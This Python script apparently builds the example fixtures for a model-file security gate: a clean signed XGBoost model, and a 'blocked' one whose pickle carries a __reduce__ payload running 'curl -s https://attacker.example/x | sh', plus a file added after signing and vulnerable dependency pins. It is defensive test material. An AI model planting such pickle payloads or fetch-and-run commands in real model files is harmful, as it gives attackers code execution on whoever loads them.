"""Writes the model files, requirements and advisory database of the two examples,
and signs the model folders with the example release key.

    python examples/make_artifacts.py target/debug/modelgate

credit-scoring/model/ (2.4.0, passes): the booster in XGBoost's JSON format (no code
runs when it loads), its serving requirements pinned to versions with no advisory in
examples/advisories/, signed with examples/keys/release.pem.

credit-scoring-blocked/model/ (2.5.0, blocked): the booster was pickled with joblib
instead, and the pickle carries an os.system call; the folder was signed, and then a
calibration file was added that the signature does not cover; the requirements pin
torch 1.13.0 and requests 2.25.1, which have published advisories.

examples/advisories/ holds the real PyPA advisory records (OSV format) of the packages
the examples use, copied from tests/fixtures/osv/pypa/. Nothing here is ever unpickled.
The private key is an example key, published on purpose: never sign a real model with it.
"""

import json
import pathlib
import pickle
import shutil
import struct
import subprocess
import sys

HERE = pathlib.Path(__file__).resolve().parent
ROOT = HERE.parent
KEY = HERE / "keys" / "release.pem"


def booster(version, trees):
    """A small XGBoost JSON model (the layout of Booster.save_model('model.json'))."""
    tree = {
        "base_weights": [0.0, -0.41, 0.37],
        "left_children": [1, -1, -1],
        "right_children": [2, -1, -1],
        "split_indices": [3, 0, 0],
        "split_conditions": [0.42, -0.41, 0.37],
        "default_left": [0, 0, 0],
        "tree_param": {"num_nodes": "3", "num_feature": "11"},
    }
    return {
        "version": [2, 1, 3],
        "learner": {
            "attributes": {"model_version": version},
            "feature_names": ["age", "income", "loan_amount", "credit_history_months", "employment_years",
                              "debt_ratio", "num_open_accounts", "employment_type", "purpose", "region", "sex"],
            "gradient_booster": {"name": "gbtree", "model": {"trees": [dict(tree, id=i) for i in range(trees)]}},
            "objective": {"name": "binary:logistic"},
        },
    }


class Payload:
    """Pickles as os.system(...): what a poisoned training job leaves in a model file."""

    def __reduce__(self):
        import os

        return (os.system, ("curl -s https://attacker.example/x | sh",))


def safetensors(tensors):
    """The safetensors layout: u64 header length, JSON header, little-endian data."""
    header, data = {}, b""
    for name, values in tensors.items():
        raw = struct.pack(f"<{len(values)}f", *values)
        header[name] = {"dtype": "F32", "shape": [len(values)], "data_offsets": [len(data), len(data) + len(raw)]}
        data += raw
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def sign(modelgate, folder):
    sig = folder / "model.sig"
    sig.unlink(missing_ok=True)
    subprocess.run([modelgate, "sign", "key", str(folder), "--private-key", str(KEY)], check=True)


def main():
    modelgate = sys.argv[1]
    advisories = HERE / "advisories"
    shutil.rmtree(advisories, ignore_errors=True)
    for package in ["numpy", "requests", "scikit-learn", "torch", "jinja2"]:
        shutil.copytree(ROOT / "tests/fixtures/osv/pypa" / package, advisories / package)

    passing = HERE / "credit-scoring/model"
    (passing / "model.json").write_text(json.dumps(booster("2.4.0", 4), indent=1) + "\n")
    (passing / "requirements.txt").write_text(
        "# Serving environment of credit-scoring 2.4.0 (pip-compile output, abridged)\n"
        "xgboost==2.1.3\nnumpy==2.2.6\nscikit-learn==1.6.1\nrequests==2.32.4\njinja2==3.1.6\n"
    )
    sign(modelgate, passing)

    blocked = HERE / "credit-scoring-blocked/model"
    blocked.mkdir(exist_ok=True)
    (blocked / "calibration.safetensors").unlink(missing_ok=True)
    model = {"booster": booster("2.5.0", 5), "threshold": 0.5, "postprocess": Payload()}
    (blocked / "model.pkl").write_bytes(pickle.dumps(model, protocol=4))
    (blocked / "requirements.txt").write_text(
        "# Serving environment of credit-scoring 2.5.0\n"
        "xgboost==2.1.3\nnumpy==2.2.6\nscikit-learn==1.6.1\ntorch==1.13.0\nrequests==2.25.1\njinja2>=3.1\n"
    )
    sign(modelgate, blocked)
    # Added after signing: the signature does not cover it.
    (blocked / "calibration.safetensors").write_bytes(safetensors({"isotonic.x": [0.0, 0.5, 1.0], "isotonic.y": [0.02, 0.48, 0.97]}))


if __name__ == "__main__":
    main()
